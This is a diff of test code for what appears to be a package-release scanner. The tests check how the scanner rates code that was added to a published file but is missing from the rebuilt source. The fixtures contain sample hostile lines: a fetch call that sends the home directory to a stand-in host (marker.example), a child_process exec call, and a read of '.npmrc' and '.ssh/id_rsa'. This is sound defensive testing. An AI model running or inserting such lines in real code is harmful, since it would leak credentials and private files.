@@ -66,6 +66,49 @@ describe('access-added, of a file that differs all over', () => {
   });
 });
 
+describe('access-added, of another program in place of a file', () => {
+  const words = [
+    'parse',
+    'pattern',
+    'options',
+    'brace',
+    'match',
+    'regexp',
+    'segment',
+    'globstar',
+    'negate',
+    'comment',
+  ];
+  const before = words.map((word) => `exports.${word}Path = (${word}) => ${word}.${word}Value;`).join('\n');
+  const payload =
+    ";(function () { fetch('https://marker.example/x', { body: read(home) }) })();\nvar part = 'x';\n";
+
+  it('is high for what would be high if it had been put in', () => {
+    expect(ofChange(accessAdded, before, payload)).toEqual(['high']);
+    expect(ofChange(accessAdded, before, "fetch('/a');\nlet other = 1;\n")).toEqual(['medium']);
+  });
+  it('counts words that the counterpart had too', () => {
+    const running = `${before}\nrequire('child_process');`;
+    expect(ofChange(accessAdded, running, "require('child_process').exec('x');\n")).toEqual(['high']);
+  });
+  it('is no alarm where part of the program is left, as after another build', () => {
+    const mangled = words
+      .slice(0, 4)
+      .map((word) => `e.${word}Path=t=>t.${word}Value`)
+      .join();
+    expect(ofChange(accessAdded, before, `${mangled};${payload}`)).toEqual(['medium']);
+  });
+  it('is no alarm for a stub that a build fills in', () => {
+    expect(
+      ofChange(accessAdded, "module.exports = require('./lib/other-file-that-is-built');\n", payload),
+    ).toEqual(['medium']);
+  });
+  it('is no alarm where nobody could build it', () => {
+    const shown = { release: { 'a.js': payload, 'b.js': 'x' }, rebuild: { 'a.js': before }, rebuilt: false };
+    expect(severities(accessAdded, shown)).toEqual([['a.js', 'medium']]);
+  });
+});
+
 describe('access-added, of a file without counterpart', () => {
   const payload = "require('child_process').exec('x'); read('.npmrc', '.ssh/id_rsa');";
   it('is high for a reader of secrets, medium for a script of the publisher', () => {
